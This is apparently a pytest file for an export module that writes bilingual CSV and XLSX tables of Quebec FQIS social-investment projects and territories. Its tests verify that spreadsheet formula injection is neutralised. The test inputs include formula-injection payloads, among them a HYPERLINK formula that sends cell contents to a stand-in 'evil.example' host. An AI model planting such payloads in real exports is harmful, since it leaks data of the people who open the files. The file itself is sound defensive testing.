"""Exports: the tables a visitor downloads, as CSV (UTF-8 with BOM) and XLSX, safe to open."""
from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from data import export, load, metrics
from geo import layers
from tests.fixtures_projects import small_projects

BOM = b"\xef\xbb\xbf"
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"cliquez")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
              "\r=1+1"]


@pytest.fixture
def prepared() -> pd.DataFrame:
    return metrics.prepare_projects(small_projects()).set_index("project_id", drop=False)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def _xlsx_sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def _as_csv_text(value) -> str:
    """How the CSV writer spells a cell, to compare an XLSX cell with its CSV twin."""
    if value is None:
        return ""
    if isinstance(value, float):
        return "%.15g" % value
    return str(value)


# ---------------------------------------------------------------- project table

def test_project_table_has_the_export_columns_in_order(prepared):
    fr = export.project_table(prepared, "fr")
    en = export.project_table(prepared, "en")
    assert list(fr.columns) == [f.fr for f in export.PROJECT_FIELDS]
    assert list(en.columns) == [f.en for f in export.PROJECT_FIELDS]
    assert list(fr.columns[:3]) == ["Identifiant du projet", "Projet", "Organisme porteur"]
    assert fr["Identifiant du projet"].tolist() == ["a", "b", "c", "d", "e"]


def test_project_table_names_and_labels(prepared):
    fr = export.project_records(prepared, "fr").set_index("project_id")
    en = export.project_records(prepared, "en").set_index("project_id")
    mrc = layers.territories("mrc").name
    assert fr.loc["b", "mrc_names"] == f"{mrc['rimouski-neigette']}; {mrc['la-mitis']}"
    assert pd.isna(fr.loc["c", "mrc_names"])  # region-wide: no MRC, not an empty string
    assert fr.loc["a", "region_name"] == "Bas-Saint-Laurent"
    assert fr.loc["d", "theme_labels"] == "Logement; Inclusion sociale et milieux de vie"
    assert en.loc["d", "theme_labels"] == "Housing; Social inclusion and living environments"
    assert fr.loc["d", "cycle_label"] == "Plan 2024–2029"
    assert fr.loc["a", "alliance_name"] == layers.territories("alliance").name_fr["bas-saint-laurent"]
    assert en.loc["a", "alliance_name"] == layers.territories("alliance").name_en["bas-saint-laurent"]
    assert fr.loc["e", "location_precision"] == "point exact" and en.loc["c", "location_precision"] == "region"
    assert fr.loc["d", "start_year"] == 2024 and fr.loc["d", "end_year"] == 2026


def test_project_table_says_what_was_inferred():
    raw = small_projects().assign(fqis_link=["explicit", "inferred", "", "explicit", "inferred"],
                                  inferred=["", "mrc", "", "cycle;amount", "municipality"])
    prepared = metrics.prepare_projects(raw).set_index("project_id", drop=False)
    fr = export.project_records(prepared, "fr").set_index("project_id")
    en = export.project_records(prepared, "en").set_index("project_id")
    assert fr.loc["b", "fqis_link"] == "déduit" and en.loc["b", "fqis_link"] == "inferred"
    assert fr.loc["a", "fqis_link"].startswith("explicite") and fr.loc["c", "fqis_link"].startswith("explicite")
    assert fr.loc["d", "inferred"] == "cycle; montant" and en.loc["e", "inferred"] == "municipality"
    assert fr.loc["a", "inferred"] == "non" and en.loc["a", "inferred"] == "no"  # all read: a plain « non »
    table = export.project_table(prepared, "fr")
    assert "Lien avec le FQIS" in table.columns and "Déduit plutôt que lu dans la source" in table.columns


def test_territory_table_gives_the_documented_share_in_percent_and_its_cycle():
    envelopes = pd.DataFrame([
        {"kind": "envelope", "cycle": "pagieps-2017-2023", "territory_level": "region", "region_code": "01",
         "alliance_id": "bas-saint-laurent", "mrc_id": None, "amount": 1_000_000.0},
        {"kind": "envelope", "cycle": "pagieps-2017-2023", "territory_level": "region", "region_code": "16",
         "alliance_id": "monteregie", "mrc_id": None, "amount": 100.0}])
    prepared = metrics.prepare_projects(small_projects())
    agg = metrics.aggregate(prepared, "region", envelopes)
    records = export.territory_records(agg, "region", "fr").set_index("territory_id")
    # region 01: projects a, b (c has no amount) of 2017–2023: 150 000 of 1 000 000 → 15 %
    assert records.loc["01", "documented_share"] == 15.0 and records.loc["01", "share_over"] == False  # noqa: E712
    assert pd.isna(records.loc["02", "documented_share"]) and pd.isna(records.loc["02", "share_over"])
    assert records.loc["16", "territory_differs"] == True and records.loc["01", "territory_differs"] == False  # noqa: E712
    table = export.territory_table(agg, "region", "fr")
    assert "Part documentée de l'enveloppe PAGIEPS 2017–2023 (%)" in table.columns
    sheet = _xlsx_sheet(export.to_xlsx_bytes(table, "Territoires"))
    header = [cell.value for cell in sheet[1]]
    share = sheet.cell(row=2, column=header.index("Part documentée de l'enveloppe PAGIEPS 2017–2023 (%)") + 1)
    assert share.value == 15.0 and share.number_format == export.PERCENT_FORMAT


def test_unknown_amount_stays_empty_never_zero(prepared):
    table = export.project_table(prepared, "fr")
    assert pd.isna(table.loc[2, "Montant FQIS ($)"])
    rows = _csv_rows(export.to_csv_bytes(table))
    column = rows[0].index("Montant FQIS ($)")
    assert [r[column] for r in rows[1:]] == ["100000", "50000", "", "30000", "20000"]


def test_project_table_refuses_unprepared_projects():
    with pytest.raises(ValueError, match="alliance"):
        export.project_table(small_projects(), "fr")
    with pytest.raises(ValueError, match="lang"):
        export.project_table(metrics.prepare_projects(small_projects()), "de")


def test_real_projects_export_every_row():
    projects = metrics.prepare_projects(load.load_projects()).set_index("project_id", drop=False)
    table = export.project_table(projects, "fr")
    assert len(table) == len(projects) == len(pd.read_csv(load.PROJECTS_PATH, dtype=str)) > 0
    assert table["Montant FQIS ($)"].sum() == pytest.approx(projects.amount_fqis.sum())
    assert table["Source (adresse)"].str.startswith("http").all()


# ---------------------------------------------------------------- CSV and XLSX

def test_csv_starts_with_bom_and_round_trips_accents(prepared):
    table = export.project_table(prepared, "fr")
    data = export.to_csv_bytes(table)
    assert data.startswith(BOM) and not data.startswith(BOM + BOM)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == list(table.columns)  # « Année de début », « Thèmes » intact
    assert back["Projet"].tolist() == table["Projet"].tolist()
    assert "Logement <b>abordable</b> à Montréal" in back["Projet"].tolist()
    assert "Portrait régional" in back["Projet"].tolist()
    assert "Sécurité alimentaire" in back["Thèmes"].tolist()


def test_xlsx_has_the_same_rows_as_the_csv(prepared):
    table = export.project_table(prepared, "fr")
    csv_rows = _csv_rows(export.to_csv_bytes(table))
    sheet = _xlsx_sheet(export.to_xlsx_bytes(table, "Projets"))
    xlsx_rows = [[_as_csv_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert len(xlsx_rows) == len(table) + 1
    assert xlsx_rows == csv_rows


def test_xlsx_layout(prepared):
    table = export.project_table(prepared, "fr")
    sheet = _xlsx_sheet(export.to_xlsx_bytes(table, "Projets"))
    assert sheet.title == "Projets"
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    amount = [c.value for c in sheet[1]].index("Montant FQIS ($)") + 1
    cell = sheet.cell(row=2, column=amount)
    assert cell.data_type == "n" and cell.value == 100_000 and cell.number_format == export.MONEY_FORMAT
    year = [c.value for c in sheet[1]].index("Année de début") + 1
    assert sheet.cell(row=5, column=year).value == 2024
    assert sheet.cell(row=5, column=year).number_format == export.YEAR_FORMAT
    assert sheet.cell(row=4, column=amount).value is None  # unknown amount: an empty cell, not 0
    widths = [sheet.column_dimensions[chr(ord("A") + i)].width for i in range(len(table.columns))]
    assert all(8 <= w <= 60 for w in widths)
    assert widths[1] > widths[0] - 30  # the title column is not squeezed
    assert sheet.freeze_panes == "A2"


def test_injection_is_neutralised_in_both_formats_but_numbers_stay_numbers():
    frame = pd.DataFrame({"texte": INJECTIONS + ["sans danger", "a=b", ""],
                          "montant": [-5.0, -2.5, 3.0, -1.0, 0.0, 7.0, -9.0, 1.0, np.nan]})
    rows = _csv_rows(export.to_csv_bytes(frame))[1:]
    assert [r[0] for r in rows[:len(INJECTIONS)]] == ["'" + s for s in INJECTIONS]
    assert [r[0] for r in rows[len(INJECTIONS):]] == ["sans danger", "a=b", ""]
    assert rows[0][1] == "-5" and rows[1][1] == "-2.5"  # negative numbers untouched

    sheet = _xlsx_sheet(export.to_xlsx_bytes(frame, "Données"))
    texts = [sheet.cell(row=r, column=1) for r in range(2, len(INJECTIONS) + 2)]
    # A carriage return comes back as a line feed or as itself, depending on the XML parser openpyxl
    # finds (lxml keeps it): either way the text is still neutralised and still text.
    assert [c.value.replace("\r", "\n") for c in texts] == ["'" + s.replace("\r", "\n") for s in INJECTIONS]
    assert all(c.data_type == "s" for c in texts)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    first = sheet.cell(row=2, column=2)
    assert first.data_type == "n" and first.value == -5


def test_xlsx_text_stays_text_even_if_neutralising_were_skipped(monkeypatch):
    monkeypatch.setattr(export, "neutralise_text", lambda value: value)
    sheet = _xlsx_sheet(export.to_xlsx_bytes(pd.DataFrame({"texte": ["=1+1", "@SUM(A1)"]}), "x"))
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"
    assert sheet["A3"].data_type == "s"


def test_injection_in_a_project_title_is_neutralised(prepared):
    hostile = prepared.copy()
    hostile.loc["a", "title"] = '=HYPERLINK("http://evil.example","x")'
    hostile.loc["b", "promoter"] = "@SUM(1+1)"
    table = export.project_table(hostile, "fr")
    rows = _csv_rows(export.to_csv_bytes(table))
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example","x")' and rows[2][2] == "'@SUM(1+1)"
    sheet = _xlsx_sheet(export.to_xlsx_bytes(table, "Projets"))
    assert sheet["B2"].value.startswith("'=") and sheet["B2"].data_type == "s"
    assert sheet["C3"].value == "'@SUM(1+1)"


def test_neutralise_text_leaves_numbers_alone():
    assert export.neutralise_text("-2+3") == "'-2+3"
    assert export.neutralise_text(-2) == -2 and export.neutralise_text(-2.5) == -2.5
    assert export.neutralise_text("2-3") == "2-3"
    mixed = pd.DataFrame({"x": ["=1", -3, None]}, dtype=object)
    assert export.neutralise(mixed)["x"].tolist()[:2] == ["'=1", -3]


def test_xlsx_survives_control_characters_and_odd_sheet_names():
    frame = pd.DataFrame({"texte": ["a\x00b\x07c", "ligne 1\nligne 2"]})
    sheet = _xlsx_sheet(export.to_xlsx_bytes(frame, "a/b:c*?[d]" * 5))
    assert sheet["A2"].value == "abc" and sheet["A3"].value == "ligne 1\nligne 2"
    assert len(sheet.title) <= 31 and not set("/:*?[]") & set(sheet.title)


# ---------------------------------------------------------------- territory and envelope tables

@pytest.mark.parametrize("level, rows", [("mrc", 104), ("region", 17), ("alliance", 20)])
def test_territory_table_one_row_per_territory(prepared, level, rows):
    agg = metrics.aggregate(prepared, level, load.load_envelopes())
    table = export.territory_table(agg, level, "fr")
    assert len(table) == rows
    assert list(table.columns) == [f.fr for f in export.territory_fields(level, agg.attrs["envelope_cycle"])]
    assert table["Sources"].str.contains("Statistique Canada").all()
    records = export.territory_records(agg, level, "fr")
    known = records.amount.notna()
    assert (records.per_capita[known] == (records.amount / records.population_2021)[known].round(4)).all()
    assert records.n_projects.sum() == (len(prepared) if level != "mrc" else prepared.counted_mrc.notna().sum())


def test_territory_table_says_when_population_is_estimated(prepared):
    agg = metrics.aggregate(prepared, "mrc")
    fr = export.territory_table(agg, "mrc", "fr").set_index("Identifiant de la MRC")
    en = export.territory_table(agg, "mrc", "en").set_index("MRC id")
    estimated = layers.territories("mrc").population_estimated.astype(bool)
    some, other = estimated[estimated].index[0], estimated[~estimated].index[0]
    assert fr.loc[some, "Population estimée"] == "oui" and fr.loc[other, "Population estimée"] == "non"
    assert "estimée" in fr.loc[some, "Sources"] and "estimée" not in fr.loc[other, "Sources"]
    assert en.loc[some, "Estimated population"] == "yes"
    assert fr.loc["sherbrooke", "Montant FQIS connu ($)"] == 20_000
    assert pd.isna(fr.loc["la-mitis", "Montant FQIS connu ($)"])  # no data, not 0


def test_territory_table_in_demo_mode_says_amounts_are_synthetic(prepared):
    agg = metrics.aggregate(prepared, "region")
    assert export.territory_table(agg, "region", "fr", demo=True)["Sources"].str.contains("SYNTHÉTIQUES").all()
    assert not export.territory_table(agg, "region", "fr")["Sources"].str.contains("SYNTHÉTIQUES").any()


def test_envelope_table_labels_and_amounts():
    envelopes = load.load_envelopes()
    table = export.envelope_table(envelopes, "fr")
    assert len(table) == len(envelopes)
    assert set(table["Nature du montant"]) <= {"Enveloppe", "Appel de projets", "Projets annoncés", "Transition",
                                               "Solde", "Plafond par projet", "Supplément"}
    assert table["Montant ($)"].sum() == pytest.approx(envelopes.amount.sum())
    data = export.to_xlsx_bytes(table, "Enveloppes")
    assert _xlsx_sheet(data).max_row == len(envelopes) + 1
    # A disputed amount is flagged « oui » on its own row only; every other row says « non ».
    flag = table["Sources en désaccord sur le montant"]
    assert list(flag == "oui") == list(envelopes.amount_disputed == "yes") and set(flag) == {"oui", "non"}
